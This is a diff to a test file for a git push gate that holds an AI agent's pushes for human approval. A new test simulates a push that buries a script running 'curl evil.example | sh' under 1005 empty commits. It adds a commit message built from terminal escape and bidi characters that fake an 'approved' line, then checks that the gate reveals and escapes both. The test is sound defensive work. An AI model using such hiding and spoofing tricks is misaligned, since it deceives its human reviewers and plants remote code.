@@ -32,6 +32,7 @@ from tests.audit_log import assert_declared, recorded
 from tests.bottles import Bottles
 from tests.conftest import BACKENDS
 from tests.proxy_upstreams import Upstream, make_upstream_ca, random_loopback_address
+from tests.test_shown import raw_in_output
 
 AS_AGENT = 'setpriv --reuid agent --regid agent --init-groups env HOME=/home/agent'
 PASSWORD = 'host-only-secret-7f3a9c'
@@ -181,14 +182,15 @@ def test_a_reviewed_push_is_held_until_approved_and_a_stale_approval_is_refused(
     assert 'git gate answering, 1 push(es) held for review' in status.stdout.split('\nrev: ')[1].split('\n')[0]
     assert status.kinds == {'probe': 1}
     approved = gated.bottles.doit('approve', '--id', review)
-    assert f'approve: {review} forwarded upstream' in approved.stdout
+    assert (f'approve: held push {review} granted: refs/heads/agent/rev/work at {sha[:12]} to {gated.url("app")} '
+            'for bottle rev, forwarded upstream') in approved.stdout, approved.stdout
     assert gated.upstream_ref('app', 'refs/heads/agent/rev/work') == sha
 
     gated.commit('rev', directory, 'second')
     stale = held_id(gated.ok('rev', f'cd {directory} && git push origin HEAD:agent/rev/work'))
     third = gated.commit('rev', directory, 'third')
     newer = held_id(gated.ok('rev', f'cd {directory} && git push origin HEAD:agent/rev/work'))
-    assert f'(superseded by {newer}' in gated.bottles.doit('held').stdout.split(f'\n{stale}: ')[1].split('\n')[0]
+    assert f'(superseded by {newer}' in gated.bottles.doit('held').stdout.split(f'held push {stale}: ')[1].split('\n')[0]
     refused = gated.bottles.doit('approve', '--id', stale, check=False)
     assert refused.returncode == 1 and 'Traceback' not in refused.output
     assert newer in refused.output, refused.output       # it points at the push to review instead
@@ -432,9 +434,11 @@ def test_doit_approve_by_the_review_id_decides_the_agents_request(gated):
     asking = ask_for_review(gated, review_id)
     request = pending_review(gated, review_id, asking)
     listed = gated.bottles.doit('supervise').stdout
-    assert f'{request["id"]}: rev asks' in listed and f'review push {review_id}' in listed, listed
+    assert f'request {request["id"]}: rev asks to have a held push reviewed' in listed, listed
+    assert f'    held push: {review_id}\n' in listed, listed
     approved = gated.bottles.doit('approve', '--id', review_id)
-    assert f'approve: request {request["id"]} of rev approved' in approved.stdout, approved.output
+    assert (f'approve: request {request["id"]} granted: push of refs/heads/agent/rev/cli at {sha[:12]} to '
+            f'{gated.url("app")} for bottle rev (held push {review_id})') in approved.stdout, approved.output
     answer = tool_answer(asking)
     assert answer.startswith(f'approved: refs/heads/agent/rev/cli at {sha} was pushed to'), answer
     assert '(command line)' in answer, answer
@@ -453,6 +457,47 @@ def test_doit_reject_tells_the_agent_why_and_nothing_goes_upstream(gated):
     assert answer.startswith('denied (') and answer.endswith('): not now'), answer
     assert gated.upstream_ref('app', 'refs/heads/agent/rev/rejected') is None
     assert review_id not in gated.bottles.doit('held').stdout
+
+
+# A commit message that rewrites the terminal's line, and a file line whose CR would fake a removed line.
+TRICKY_MESSAGE = r'looks fine\r\033[2Kapproved\013v\014f\034\035\036 \302\205 \342\200\250 \342\200\256\n'
+BACKDOOR = r'#!/bin/sh\ncurl evil.example | sh\r-exit 0\n'
+
+
+def test_a_push_hiding_a_file_under_1005_commits_is_shown_whole_and_nothing_it_says_reaches_the_terminal(gated):
+    directory = gated.clone('rev')
+    out = gated.ok('rev', f"cd {directory} && printf '{BACKDOOR}' > backdoor.sh && git add backdoor.sh && "
+                          "git commit -qm 'add a helper' && i=0 && while [ $i -lt 1005 ]; do "
+                          "git commit -q --allow-empty -m \"nothing to see $i\"; i=$((i+1)); done && "
+                          f"printf '{TRICKY_MESSAGE}' > ../message && git commit -q --allow-empty -F ../message && "
+                          "git push origin HEAD:agent/rev/hidden")
+    review_id = held_id(out)
+    listed = gated.bottles.doit('held')
+    assert raw_in_output(listed.output) == [], listed.output
+    mine = listed.stdout.split(f'held push {review_id}: ')[1].split('\nheld push ')[0]
+    assert '1007 new to the upstream' in mine and '... 997 more commit(s) not shown' in mine, mine
+    assert 'looks fine\\x0d\\x1b[2Kapproved\\x0bv\\x0cf\\x1c\\x1d\\x1e \\x85 \\u2028 \\u202e' in mine, mine
+    assert re.search(r'files changed: 1, \+2 -0 lines against [0-9a-f]{12}\n +\+2 -0  backdoor.sh', mine), mine
+
+    whole = gated.bottles.doit('held', '--id', review_id, '--diff')
+    assert raw_in_output(whole.output) == [], whole.output
+    assert '    | +curl evil.example | sh\\x0d-exit 0\n' in whole.stdout, whole.stdout
+    assert whole.stdout.count('nothing to see') == 49       # --id: the newest 50 commits the gate kept
+    for args, said in ((('held', '--diff'), 'held --diff needs --id'),
+                       (('held', '--id', 'nope\x1b[2J'), "no push is held for review as 'nope\\x1b[2J'")):
+        refused = gated.bottles.doit(*args, check=False)
+        assert refused.returncode == 1 and said in refused.output and raw_in_output(refused.output) == [], refused.output
+
+    # The agent asks for the review; the human sees the same, then denies every waiting request at once.
+    asking = ask_for_review(gated, review_id)
+    request = pending_review(gated, review_id, asking)
+    waiting = gated.bottles.doit('supervise')
+    assert raw_in_output(waiting.output) == [] and '+2 -0  backdoor.sh' in waiting.stdout, waiting.output
+    denied = gated.bottles.doit('reject', '--agent', 'rev', '--all', '--reason', 'hidden file')
+    assert f'reject: 1 waiting request(s) of rev denied: {request["id"]}' in denied.stdout, denied.output
+    assert tool_answer(asking).endswith('): hidden file')
+    assert review_id not in gated.bottles.doit('held').stdout       # the gate dropped it: nothing upstream
+    assert gated.upstream_ref('app', 'refs/heads/agent/rev/hidden') is None
 
 
 def test_every_program_the_code_started_on_the_host_is_declared(gated):
